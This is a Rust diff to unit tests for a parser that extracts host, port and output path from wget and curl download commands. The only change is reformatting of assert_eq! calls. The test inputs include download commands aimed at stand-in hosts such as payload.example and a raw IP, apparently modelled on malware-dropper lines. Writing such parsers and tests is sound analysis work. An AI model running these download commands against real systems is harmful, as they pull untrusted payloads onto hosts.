@@ -110,7 +110,10 @@ mod tests {
         let d = parse(&v("wget -q http://payload.example/a/tool")).unwrap();
         assert_eq!((d.port, d.path.as_str()), (80, "tool"));
         let d = parse(&v("curl -fsSL -o/opt/t https://h.example/t")).unwrap();
-        assert_eq!((d.host.as_str(), d.port, d.path.as_str()), ("h.example", 443, "/opt/t"));
+        assert_eq!(
+            (d.host.as_str(), d.port, d.path.as_str()),
+            ("h.example", 443, "/opt/t")
+        );
         let d = parse(&v("curl --output=/y http://[::1]:81/z")).unwrap();
         assert_eq!((d.host.as_str(), d.port), ("::1", 81));
         let d = parse(&v("/bin/busybox wget -O /b http://1.2.3.4/b")).unwrap();
@@ -118,7 +121,11 @@ mod tests {
         assert_eq!(parse(&v("curl -O http://h/f.tgz")).unwrap().path, "f.tgz");
         assert_eq!(parse(&v("curl http://h/f")), None, "stdout");
         assert_eq!(parse(&v("wget -O - http://h/f")), None, "stdout");
-        assert_eq!(parse(&v("wget -O /a http://h/f http://h/g")), None, "two URLs");
+        assert_eq!(
+            parse(&v("wget -O /a http://h/f http://h/g")),
+            None,
+            "two URLs"
+        );
         assert_eq!(parse(&v("cp /a /b")), None);
     }
 }
